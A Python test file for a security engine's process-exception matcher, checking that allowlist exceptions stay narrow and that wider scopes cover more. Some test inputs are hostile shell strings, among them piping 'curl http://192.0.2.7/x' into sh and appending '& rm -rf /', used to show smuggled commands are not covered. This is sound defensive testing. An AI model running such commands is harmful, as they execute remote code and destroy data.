"""What an exception covers: narrow unless somebody widens it, and wider only ever covers more."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from engine.errors import UsageError
from engine.exceptions.commands import WHOLE, CommandKind, left_open, shape_of_command
from engine.exceptions.kept import ExceptionReason, ExceptionScope, KeptException
from engine.exceptions.matching import ExceptionMatcher, ScopeAsked, SeenProcess, covers
from tests.engine.exceptions.scopes import SEEN

MATCHER = ExceptionMatcher({})
CRON = SeenProcess(("/usr/sbin/cron", "/bin/sh"), ("WEB01",), "sh -c 'debian-sa1 1 1'")


def scope(seen: SeenProcess = CRON, **asked: object) -> ExceptionScope:
    return MATCHER.scope_of(seen, ScopeAsked(**asked))  # type: ignore[arg-type]


def test_the_default_is_image_parent_and_shape_of_the_command_line() -> None:
    made = scope()
    assert (made.image, made.ancestors, made.host) == ("/bin/sh", ("/usr/sbin/cron",), "")
    assert made.command == shape_of_command("sh -c 'debian-sa1 60 2'")
    assert covers(made, replace(CRON, hosts=("DB9",), command_line="sh -c 'debian-sa1 60 2'"))


@pytest.mark.parametrize(
    "other",
    [
        SeenProcess(("/usr/sbin/cron", "/bin/bash"), ("WEB01",), CRON.command_line),
        SeenProcess(("/usr/sbin/httpd", "/bin/sh"), ("WEB01",), CRON.command_line),
        SeenProcess(("/bin/sh",), ("WEB01",), CRON.command_line),
        SeenProcess(("/usr/sbin/cron", "/usr/bin/perl", "/bin/sh"), ("WEB01",), CRON.command_line),
        replace(CRON, command_line="sh -c 'curl http://192.0.2.7/x | sh'"),
        replace(CRON, command_line=None),
        replace(CRON, command_line="sh"),
    ],
)
def test_what_differs_in_one_of_them_is_not_covered(other: SeenProcess) -> None:
    assert not covers(scope(), other)


def test_versions_are_one_program_and_other_places_are_not() -> None:
    made = scope(SeenProcess(("c:\\windows\\explorer.exe", "c:\\program files\\acme 2.3\\tool.exe"), (), "tool.exe"))
    assert covers(made, SeenProcess(("c:\\windows\\explorer.exe", "c:\\program files\\acme 2.4\\tool.exe"), (), "tool.exe"))
    assert not covers(made, SeenProcess(("c:\\windows\\explorer.exe", "c:\\users\\bob\\acme 2.4\\tool.exe"), (), "tool.exe"))


@pytest.mark.parametrize(
    ("wanted", "names", "found"),
    [
        ("web*", ("WEB01",), True), ("WEB01", ("web01",), True), ("web0?", ("DB", "WEB02"), True), ("web01", ("WEB012",), False),
        ("*", ("",), True), ("db[1]", ("db[1]",), True), ("db[1]", ("db1",), False), ("[a-z]*", ("web",), False),
        ("", ("anything",), True), ("web*", (), False),
    ],
)  # fmt: skip
def test_hosts_are_matched_by_any_name_without_regard_to_case(wanted: str, names: tuple[str, ...], found: bool) -> None:
    assert covers(scope(host=wanted), replace(CRON, hosts=names)) is found


def test_no_pattern_makes_a_name_of_a_host_slow() -> None:
    """Each star tried at each place would take longer than anybody waits."""
    assert not covers(scope(host="*a" * 100 + "b"), replace(CRON, hosts=("a" * 5_000,)))


def test_fewer_ancestors_than_asked_for_make_no_wider_exception() -> None:
    """It is for what has no more of them, and not for whatever is below somebody else."""
    made = scope(SeenProcess(("/bin/sh",), (), "sh -c x"))
    assert (made.ancestors, made.root) == ((), True)
    assert covers(made, SeenProcess(("/bin/sh",), (), "sh -c x"))
    assert not covers(made, SeenProcess(("/usr/sbin/httpd", "/bin/sh"), (), "sh -c x"))
    assert scope(SeenProcess(("/bin/sh",), (), "sh -c x"), ancestors=0).root is False
    two = scope(CRON, ancestors=5)
    assert (two.ancestors, two.root) == (("/usr/sbin/cron",), True)
    assert covers(two, CRON)
    assert not covers(two, replace(CRON, steps=("/sbin/init", *CRON.steps)))


def test_a_program_alone_has_to_be_asked_for() -> None:
    with pytest.raises(UsageError, match="a program alone, which has to be said"):
        scope(ancestors=0, any_command=True)
    with pytest.raises(UsageError, match="asks for more"):
        scope(alone=True)
    assert scope(ancestors=0, any_command=True, alone=True).alone


def test_nothing_is_hidden_behind_the_words_that_a_shape_is_made_of() -> None:
    """A shape has the first 48 words: what stands behind them would be anybody's."""
    long = "sh -c '" + "word " * 60
    made = scope(replace(CRON, command_line=long + "'"))
    assert made.command == (WHOLE, made.command[1])  # type: ignore[index]
    assert covers(made, replace(CRON, command_line=long + "'"))
    assert not covers(made, replace(CRON, command_line=long + "; curl http://192.0.2.7/x | sh'"))
    far = "sh -c a " + "b" * 5_000
    assert not covers(scope(replace(CRON, command_line=far)), replace(CRON, command_line=far + " & rm -rf /"))


def test_what_a_shape_leaves_open_is_told() -> None:
    assert left_open(shape_of_command("curl -o x http://192.0.2.7/a")) == ("any URL",)
    assert left_open(CommandKind.ANY) == ()


def wider(made: ExceptionScope, ancestors: int, any_host: bool, any_command: bool) -> ExceptionScope:
    changed = replace(
        made, ancestors=made.ancestors[:ancestors], root=made.root and ancestors >= len(made.ancestors), host="" if any_host else
        made.host, command=CommandKind.ANY if any_command else made.command,
    )  # fmt: skip
    return replace(changed, alone=changed.is_alone)


@given(SEEN, SEEN, st.data())
def test_a_wider_scope_covers_whatever_a_narrower_one_does(one: SeenProcess, other: SeenProcess, data: st.DataObject) -> None:
    ancestors = data.draw(st.integers(0, len(one.steps)))
    host = data.draw(st.sampled_from(["", "*", one.hosts[0], "web*"]))
    asked = ScopeAsked(ancestors, host, any_command=data.draw(st.booleans()))
    asked = replace(asked, alone=not ancestors and asked.any_command)
    made = MATCHER.scope_of(one, asked)
    more = wider(made, data.draw(st.integers(0, ancestors)), data.draw(st.booleans()), data.draw(st.booleans()))
    assert not covers(made, other) or covers(more, other)
    assert not covers(made, one) or covers(more, one)


@given(SEEN, st.data())
def test_what_is_made_from_a_process_covers_it(seen: SeenProcess, data: st.DataObject) -> None:
    ancestors = data.draw(st.integers(0, len(seen.steps) + 1))
    assert covers(MATCHER.scope_of(seen, ScopeAsked(ancestors)), seen)


@given(st.lists(SEEN, min_size=1, max_size=6), SEEN)
def test_asking_for_many_at_once_finds_what_each_alone_covers(made_from: list[SeenProcess], seen: SeenProcess) -> None:
    scopes = {number: MATCHER.scope_of(one, ScopeAsked(0)) for number, one in enumerate(made_from)}
    together = ExceptionMatcher(scopes)
    assert set(together.covering(seen)) == {number for number, one in scopes.items() if covers(one, seen)}
    if together.of_chain(seen.steps):
        assert together.may_be_image(seen.steps[-1]), "the look that leaves most paths out leaves out none that is meant"


@given(SEEN, st.integers(), st.one_of(st.none(), st.integers()))
def test_an_expired_one_holds_no_more(seen: SeenProcess, now: int, expires: int | None) -> None:
    made = MATCHER.scope_of(seen, ScopeAsked(0))
    kept = KeptException(made, "benign", ExceptionReason.SOFTWARE, "ann", "", 0, expires)
    assert kept.holds(now) is (expires is None or now < expires)


@given(SEEN, SEEN)
def test_one_scope_has_one_key(one: SeenProcess, other: SeenProcess) -> None:
    first, second = (MATCHER.scope_of(seen, ScopeAsked(0)) for seen in (one, other))
    assume(first != second)
    assert first.key != second.key
